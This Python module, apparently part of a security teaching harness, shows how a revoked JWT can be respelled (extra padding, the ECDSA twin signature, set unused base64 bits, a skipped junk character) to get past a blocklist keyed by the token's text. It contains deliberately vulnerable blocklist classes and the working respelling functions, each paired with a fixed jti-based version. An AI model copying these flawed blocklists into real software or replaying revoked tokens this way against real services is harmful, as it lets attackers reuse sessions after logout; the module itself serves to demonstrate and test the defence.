"""A blocked token, spelled in another way, and a blocklist by text.

A token has several spellings: with padding, with the unused bits of its
last character set, with a character that a decoder skips, and, for ES256,
with a second signature that is as good.  A blocklist that knows a token
by its text, or by a hash of it, knows only one of them.  A list of `jti`
does not care how the token is spelled.  Source: RFC 7515 section 2,
RFC 4648 section 3, OWASP JSON Web Token Cheat Sheet.
"""

from base64 import urlsafe_b64decode
from collections.abc import Callable
from dataclasses import replace
from functools import partial

from demo.attacks.after_log_out import replay_after_log_out
from demo.attacks.base import Attack, Attacker
from demo.attacks.forging import jwt_scheme
from demo.attacks.turning import Flip, overriding
from demo.contenders import contender
from demo.errors import Revoked
from demo.harness import Client, NotApplicable
from demo.schemes import JWT, Blocklist, Identity
from demo.schemes.base import digest, encoded, require_text

# The blocklist that misses them


class TextBlocklist(Blocklist):
    """Overrides `one_spelling`, `verify` and `revoke`: an entry is named
    by the hash of the token's text, not by its `jti`, and every spelling
    that the library takes is good."""

    def one_spelling(self, token: str) -> str:
        return token

    def verify(self, token: str) -> Identity:
        identity = JWT.verify(self, token)
        if self.store.get(self.entry(digest(token))) is not None:
            raise Revoked("on the blocklist")
        return identity

    def revoke(self, token: str) -> None:
        identity = JWT.verify(self, token)
        self.block(digest(token), identity.expires_at)


class LooseTextBlocklist(TextBlocklist):
    """Overrides `one_spelling`: it decodes a signature as Python's base64
    does, which drops every character that it does not know."""

    def one_spelling(self, token: str) -> str:
        signed, _, signature = require_text(token).rpartition(".")
        raw = urlsafe_b64decode(signature + "==")
        return f"{signed}.{encoded(raw)}"


NAMES_BY_TEXT = Flip(
    "blocklist entry",
    "named by the token's text",
    overriding(Blocklist, TextBlocklist),
    tempting="example: OWASP JSON Web Token Cheat Sheet for Java (older)",
)
NAMES_BY_LOOSE_TEXT = Flip(
    "blocklist entry",
    "named by the token's text, loosely decoded",
    overriding(Blocklist, LooseTextBlocklist),
)

# The spellings

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

P256_ORDER = int(
    "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16
)
"""Number of points on the curve of ES256.  Source: NIST SP 800-186
section 3.2.1.3."""


def padded(token: str) -> str:
    """The same bytes, with the padding that RFC 7515 leaves out."""
    signature = token.rpartition(".")[2]
    return token + "=" * (-len(signature) % 4)


def twin(token: str) -> str:
    """The other ECDSA signature of the same text: (r, n - s)."""
    signed, _, signature = token.rpartition(".")
    raw = urlsafe_b64decode(signature + "==")
    r, s = raw[:32], int.from_bytes(raw[32:])
    return f"{signed}.{encoded(r + (P256_ORDER - s).to_bytes(32))}"


def next_last(token: str) -> str:
    """The last character's lowest bit stands for nothing: set it."""
    return token[:-1] + ALPHABET[ALPHABET.index(token[-1]) | 1]


def with_junk(token: str) -> str:
    """A character that is in no base64, for a decoder that skips it."""
    return token[:-4] + "!" + token[-4:]


def respelled(attacker: Attacker, spell: Callable[[str], str]) -> Client:
    """Alice logs out; her token comes back in another spelling.  Raises
    NotApplicable when the copy works as it is: no list is bypassed."""
    jwt_scheme(attacker)
    copy = replay_after_log_out(attacker)
    if copy.me() == "alice":
        raise NotApplicable("the copy works as it is")
    copy.replace_credential(spell(copy.credential()))
    return copy


def twin_of_es256(attacker: Attacker) -> Client:
    """Alice logs out; her token comes back with the other valid signature,
    in which s is n - s.  Raises NotApplicable when the signature is not by
    ES256."""
    if attacker.service.contender.algorithm != "ES256":
        raise NotApplicable("the signature is not by ES256")
    return respelled(attacker, twin)


PADDED_TOKEN = Attack(
    id="padded-token",
    name="a blocked token, padded",
    claim="A blocked token with one `=` more at its end still pays.",
    family="parsing",
    source="RFC 7515 section 2, OWASP JSON Web Token Cheat Sheet",
    forge=partial(respelled, spell=padded),
    fixed=contender("JWT + blocklist"),
    flip=NAMES_BY_TEXT,
    chapter="keep-a-blocklist",
)
TWIN_SIGNATURE = Attack(
    id="twin-signature",
    name="a blocked token, with its twin signature",
    claim="A blocked ES256 token enters with its other valid signature.",
    family="parsing",
    source="NIST FIPS 186-5 section 6.4.2, OWASP JSON Web Token Cheat Sheet",
    forge=twin_of_es256,
    fixed=replace(
        contender("JWT + blocklist"),
        name="JWT ES256 + blocklist",
        algorithm="ES256",
    ),
    flip=NAMES_BY_TEXT,
    chapter="keep-a-blocklist",
)
UNUSED_BITS = Attack(
    id="unused-bits",
    name="a respelled token, with its unused bits set",
    claim="A blocked token with another last character still pays.",
    family="parsing",
    source="RFC 4648 section 3.5, OWASP JSON Web Token Cheat Sheet",
    forge=partial(respelled, spell=next_last),
    fixed=contender("JWT + blocklist"),
    flip=NAMES_BY_LOOSE_TEXT,
    chapter="keep-a-blocklist",
)
JUNK_CHARACTER = Attack(
    id="junk-character",
    name="a respelled token, with a character to be skipped",
    claim="A blocked token with a character that is skipped still pays.",
    family="parsing",
    source="RFC 4648 section 3.3, CVE-2026-102269",
    forge=partial(respelled, spell=with_junk),
    fixed=contender("JWT + blocklist"),
    flip=NAMES_BY_LOOSE_TEXT,
    chapter="keep-a-blocklist",
    releases=("pyjwt_junk",),
)

ATTACKS = (PADDED_TOKEN, TWIN_SIGNATURE, UNUSED_BITS, JUNK_CHARACTER)
